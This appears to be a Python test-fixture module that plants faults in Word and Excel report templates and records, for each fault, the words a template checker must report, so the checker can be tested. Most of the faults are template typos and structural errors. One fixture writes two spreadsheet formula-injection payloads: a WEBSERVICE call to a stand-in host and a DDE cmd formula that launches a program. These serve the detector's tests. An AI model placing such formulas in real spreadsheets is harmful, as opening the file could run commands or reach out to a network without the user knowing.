"""Faults planted in templates, each with the place, the kind and the words a doctor must find."""

from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from docx.document import Document as Word
from docx.oxml import OxmlElement, parse_xml
from docx.oxml.ns import qn
from openpyxl import Workbook, load_workbook

from tests.exports.doctor.planting import ROOT, ours, small, split, table, text_box, with_footnote

LEDGER = ROOT / "resources" / "ledgers" / "problem_ledger.xlsx"


@dataclass(frozen=True)
class Seed:
    """One planted fault: where it is (the paragraph holds `text`, or the cell), what it is, what mends it."""

    kind: str
    text: str = ""
    part: str = "正文"
    row: int = 0
    column: int = 0
    cell: str = ""
    says: str = ""
    mends: bool = False


@dataclass(frozen=True)
class Sick:
    """A template with faults."""

    name: str
    kind: str
    make: Callable[[Path], Path]
    seeds: tuple[Seed, ...]

    @property
    def suffix(self) -> str:
        """The ending of its file."""
        return ".xlsx" if self.kind == "ledger" else ".docx"


def _misspelled(path: Path) -> Path:
    return ours(
        "report.docx",
        {
            "{{ title }}": "{{ titel }}",
            "{{ paragraph }}#1": "{{ paragraf }}",
            "{{ heading.number }}{{ heading.title }}": "{{ heading.number }}{{ heading.titel }}",
            "{%tr if problem_list.total %}": "{%tr if problem_list.totla %}",
            "{{ row.amount }}": "{{ row.amuont }}",
        },
        path,
    )


def _unpaired(path: Path) -> Path:
    return ours(
        "report.docx",
        {
            "{%p endfor %}#0": "这里少了一个结束",
            "{%p for attachment in attachments %}": "{%p fro attachment in attachments %}",
            "{{ signature }}": "{{ signature }}{% endfor %}",
            "{%p endif %}#7": "{%p endfi %}",
        },
        path,
    )


def _levels(path: Path) -> Path:
    return ours(
        "paper.docx",
        {
            "{%tr endfor %}#0": "{%p endfor %}",
            "{{ item.name }}": "{{ item.name|uper }}",
            "{%tr endfor %}#1": "{%tr endfor %}此处不留",
            "{%tr for handler in handlers %}": "{%p for handler in handlers %}",
        },
        path,
    )


def _fullwidth(path: Path) -> Path:
    return ours(
        "paper.docx",
        {
            "{{ number }}": "｛｛ number ｝｝",
            "{{ date }}": "{｛ date }｝",
            "{%tr for handler in handlers %}": "{％tr for handler in handlers ％}",
            "{{ picture.key|picture(150, 106) }}": "{{ picture.key|picture（150，106） }}",
            "{{ note }}": "{{ note｜default(＂无＂) }}",
            "{{ page.title }}": "{{ page．title }}",
        },
        path,
    )


def _unclosed(path: Path) -> Path:
    return small(
        path,
        "乙 addressee }}",
        "丙 { signature }}",
        "丁 {{ date } 后文",
        "戊 {% if draft } 己",
        "{% endif %}",
        "甲 {{ title",
        "庚 {{ internal_mark",
        "| upper }} 辛",
    )


def _split(path: Path) -> Path:
    def add(document: Word) -> None:
        split(document, "甲 {{ ti", "tle }}")
        split(document, "乙 {{ addre", "ssee }}", between="w:tab")
        split(document, "丙 {", "{ date }", "}")

    return small(path, then=add)


def _looks(path: Path) -> Path:
    def add(document: Word) -> None:
        style = OxmlElement("w:pStyle")
        style.set(qn("w:val"), "GhostParagraph")
        document.paragraphs[1]._p.get_or_add_pPr().append(style)
        run_style = OxmlElement("w:rStyle")
        run_style.set(qn("w:val"), "GhostRun")
        document.paragraphs[2].runs[0]._r.get_or_add_rPr().append(run_style)
        drawing = (
            '<w:r xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:drawing>'
            '<a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:embed="rId404"/>'
            "</w:drawing></w:r>"
        )
        document.paragraphs[3]._p.append(parse_xml(drawing))

    return small(path, "甲 {{ title }}", "乙 {{ addressee }}", "丙 {{ date }}", then=add)


def _prefixes(path: Path) -> Path:
    def add(document: Word) -> None:
        table(
            document,
            ("{%tc for row in problem_list.rows %}", "{{ row.title }}"),
            ("{{ row.focus }}", "{%tc endfor %}"),
        )

    return small(
        path,
        "{%tr if draft %}",
        "{%tr endif %}",
        "{% p if draft %}",
        "{%p endif %}",
        "{%p if signature %}有署名{%p endif %}",
        "{{r title }}",
        then=add,
    )


def _corners(path: Path) -> Path:
    def add(document: Word) -> None:
        section = document.sections[0]
        section.header.paragraphs[0].text = "页眉 {{ titel }}"
        section.footer.paragraphs[0].text = "页脚 {{ dat }}"
        text_box(document, "框内 {{ signatur }}")
        made = document.add_table(1, 2)
        inner = made.cell(0, 1).add_table(2, 2)
        inner.cell(1, 0).text = "内表 {{ intern_mark }}"

    return with_footnote(small(path, then=add), "脚注 {{ adressee }}")


def _misused(path: Path) -> Path:
    return small(
        path,
        "甲 {{ findings }}",
        "乙 {% for letter in title %}{{ letter }}{% endfor %}",
        "丙 {{ title.text }}",
        "{%p for heading in findings.headings %}",
        "{%p endfor %}",
        "丁 {{ heading.title }}",
        "戊 {{ title + }}",
        "己 {% if title = date %}是{% endif %}",
        "庚 {% for row problem_list.rows %}{% endfor %}",
        "辛 {{ attachments[0 }}",
        "壬 {% if title is defind %}是{% endif %}",
        "癸 {{ tiltle }}",
    )


def _real_ledger(path: Path) -> Path:
    workbook = load_workbook(LEDGER)
    sheet = workbook["问题台账"]
    sheet["Z3"], sheet["D3"], sheet["Q4"] = "承办任", "届次", "=1+1"
    sheet.merge_cells("E4:F4")
    workbook["书记专题会汇报表"].title = "书记专题会汇报"
    workbook.save(path)
    return path


def _small_ledger(path: Path) -> Path:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.title = "问题台账"
    sheet.append(["虚构台账"])
    sheet.append(["序号", "底稿编号", "涉及金额（万元）", "问题标题"])
    sheet.append(["合计", "", "", "{{ title }}"])
    sheet.append(["中位数", "", "=MEDIAN(C3:C3)"])
    workbook.create_sheet("书记专题会汇报表").append(["这里没有", "一个认得的", "列名"])
    workbook.save(path)
    return path


def _dropped(path: Path) -> Path:
    return ours(
        "report.docx",
        {"{{ signature }}": "虚构的落款", "{{ row.amount }}": "", "{{ problem.number }}{{ problem.title }}": "问题"},
        path,
    )


def _left_out(path: Path) -> Path:
    return ours(
        "report.docx",
        {"{{ signature }}": "{#p 不打印：署明、row.amuont #}", "{{ date }}": "｛# 不打印：date #｝"},
        path,
    )


def _braces(path: Path) -> Path:
    return small(
        path,
        "甲 {{ title }}}",
        "乙 {{{ addressee }}",
        "丙 {{{ signature }}}",
        "丁 {% if draft %}}草稿{% endif %}",
        "戊 {{% if draft %}草稿{% endif %}",
        "己 {{ date }}｝",
        "庚 { {{ date }} } {字} {% raw %}}{{% endraw %}",
    )


def _other_sheet(path: Path) -> Path:
    workbook = load_workbook(LEDGER)
    summary = workbook.create_sheet("汇总")
    for row in range(1, 5):
        summary[f"A{row}"] = f"=MEDIAN(问题台账!Q4)*{row}"
    workbook.save(path)
    return path


def _reaching_out(path: Path) -> Path:
    workbook = load_workbook(LEDGER)
    workbook["问题台账"]["AZ1"] = '=WEBSERVICE("http://evil.invalid")'
    workbook["书记专题会汇报表"]["AZ2"] = "=cmd|'/c calc'!A1"
    workbook.save(path)
    return path


SICK = (
    Sick(
        "misspelled",
        "report",
        _misspelled,
        (
            Seed("name", "{{ titel }}", says="是否为 `title`"),
            Seed("name", "{{ paragraf }}", says="是否为 `paragraph`"),
            Seed("name", "heading.titel", says="是否为 `heading.title`"),
            Seed("name", "problem_list.totla", row=5, column=1, says="是否为 `problem_list.total`"),
            Seed("name", "row.amuont", row=3, column=5, says="是否为 `row.amount`"),
        ),
    ),
    Sick(
        "unpaired",
        "report",
        _unpaired,
        (
            Seed("unclosed", "for paragraph in opening.paragraphs", says="endfor"),
            Seed("keyword", "fro attachment", says="是否为 `for`"),
            Seed("unpaired", "{{ signature }}{% endfor %}", says="endfor"),
            Seed("keyword", "endfi", says="是否为 `endif`"),
        ),
    ),
    Sick(
        "levels",
        "paper",
        _levels,
        (
            Seed("level", "{%p endfor %}", says="{%tr"),
            Seed("filter", "uper", says="是否为 `upper`"),
            Seed("lost", "{%tr endfor %}此处不留", says="此处不留"),
            Seed("level", "{%tr endfor %}", says="{%p"),
        ),
    ),
    Sick(
        "fullwidth",
        "paper",
        _fullwidth,
        (
            Seed("fullwidth", "｛｛ number ｝｝", row=1, column=2, says="`{{ number }}`", mends=True),
            Seed("fullwidth", "{｛ date }｝", row=1, column=4, mends=True),
            Seed("fullwidth", "{％tr for handler", mends=True),
            Seed("fullwidth", "picture（150，106）", says="picture(150,106)", mends=True),
            Seed("fullwidth", "note｜default", says='`{{ note|default("无") }}`', mends=True),
            Seed("fullwidth", "page．title", mends=True),
        ),
    ),
    Sick(
        "unclosed",
        "report",
        _unclosed,
        (
            Seed("brackets", "甲 {{ title", says="`}}`"),
            Seed("brackets", "乙 addressee }}", says="`{{`"),
            Seed("brackets", "丙 { signature }}", says="`{{`"),
            Seed("brackets", "丁 {{ date }", says="`}}`"),
            Seed("brackets", "戊 {% if draft }", says="`%}`"),
            Seed("split", "庚 {{ internal_mark", says="两段"),
        ),
    ),
    Sick(
        "split",
        "report",
        _split,
        (
            Seed("split", "甲 {{ title }}", mends=True),
            Seed("split", "乙 {{ addre\tssee }}", mends=True),
            Seed("split", "丙 {{ date }}", mends=True),
        ),
    ),
    Sick(
        "looks",
        "report",
        _looks,
        (
            Seed("style", "甲 {{ title }}", says="GhostParagraph"),
            Seed("style", "乙 {{ addressee }}", says="GhostRun"),
            Seed("picture", "丙 {{ date }}"),
        ),
    ),
    Sick(
        "prefixes",
        "report",
        _prefixes,
        (
            Seed("prefix", "{%tr if draft %}", says="{%p"),
            Seed("prefix", "{%tr endif %}", says="{%p"),
            Seed("prefix", "{% p if draft %}", says="`{%p if draft %}`", mends=True),
            Seed("level", "{%p if signature %}有署名{%p endif %}"),
            Seed("prefix", "{{r title }}", says="`{{ title }}`", mends=True),
            Seed("level", "{%tc endfor %}", row=2, column=2),
        ),
    ),
    Sick(
        "corners",
        "report",
        _corners,
        (
            Seed("name", "页眉 {{ titel }}", part="页眉", says="是否为 `title`"),
            Seed("name", "页脚 {{ dat }}", part="页脚", says="是否为 `date`"),
            Seed("name", "框内 {{ signatur }}", says="是否为 `signature`"),
            Seed("name", "内表 {{ intern_mark }}", row=2, column=1, says="是否为 `internal_mark`"),
            Seed("name", "脚注 {{ adressee }}", part="脚注", says="是否为 `addressee`"),
        ),
    ),
    Sick(
        "misused",
        "report",
        _misused,
        (
            Seed("use", "甲 {{ findings }}"),
            Seed("use", "乙 {% for letter in title %}"),
            Seed("use", "丙 {{ title.text }}"),
            Seed("name", "丁 {{ heading.title }}", says="循环"),
            Seed("syntax", "戊 {{ title + }}"),
            Seed("syntax", "己 {% if title = date %}", says="=="),
            Seed("syntax", "庚 {% for row problem_list.rows %}", says="in"),
            Seed("syntax", "辛 {{ attachments[0 }}"),
            Seed("filter", "壬 {% if title is defind %}", says="是否为 `defined`"),
            Seed("name", "癸 {{ tiltle }}", says="是否为 `title`"),
        ),
    ),
    Sick(
        "real-ledger",
        "ledger",
        _real_ledger,
        (
            Seed("column", cell="Z3", part="问题台账", says="是否为“承办人”"),
            Seed("duplicate", cell="D3", part="问题台账", says="届次"),
            Seed("model", cell="E4", part="问题台账", says="合并"),
            Seed("model", cell="Q4", part="问题台账", says="公式"),
            Seed("sheet", cell="", part="书记专题会汇报表", says="书记专题会汇报"),
        ),
    ),
    Sick(
        "dropped",
        "report",
        _dropped,
        (
            Seed("unprinted", "附件：", says="不打印：署名 "),
            Seed("unprinted", "{%tr for row in problem_list.rows %}", row=2, column=1, says="`{{ row.amount }}`"),
            Seed("unprinted", "{%p for problem in heading.problems %}", says="`{{ problem.number }}`"),
            Seed("unprinted", "{%p for problem in heading.problems %}", says="`{{ problem.title }}`"),
        ),
    ),
    Sick(
        "left-out",
        "report",
        _left_out,
        (
            Seed("name", "署明", says="是否为 `署名`"),
            Seed("name", "row.amuont", says="是否为 `row.amount`"),
            Seed("fullwidth", "｛# 不打印", says="`{# 不打印：date #}`"),
        ),
    ),
    Sick(
        "braces",
        "report",
        _braces,
        (
            Seed("brackets", "甲 {{ title }}}", says="“}”应写成 `{{ title }}`"),
            Seed("brackets", "乙 {{{ addressee }}", says="“{”应写成 `{{ addressee }}`"),
            Seed("brackets", "丙 {{{ signature }}}", says="“{}”应写成 `{{ signature }}`"),
            Seed("brackets", "丁 {% if draft %}}", says="“}”应写成 `{% if draft %}`"),
            Seed("brackets", "戊 {{% if draft %}", says="“{”应写成 `{% if draft %}`"),
            Seed("brackets", "己 {{ date }}｝", says="“｝”"),
        ),
    ),
    Sick(
        "other-sheet",
        "ledger",
        _other_sheet,
        tuple(Seed("formula", cell=f"A{row}", part="汇总", says="MEDIAN") for row in range(1, 5)),
    ),
    Sick(
        "reaching-out",
        "ledger",
        _reaching_out,
        (
            Seed("danger", cell="AZ1", part="问题台账", says="网络"),
            Seed("danger", cell="AZ2", part="书记专题会汇报表", says="程序"),
        ),
    ),
    Sick(
        "small-ledger",
        "ledger",
        _small_ledger,
        (
            Seed("model", cell="A3", part="问题台账", says="样板行"),
            Seed("formula", cell="C4", part="问题台账", says="MEDIAN"),
            Seed("tag", cell="D3", part="问题台账", says="{{ title }}"),
            Seed("header", part="书记专题会汇报表", says="表头"),
        ),
    ),
)
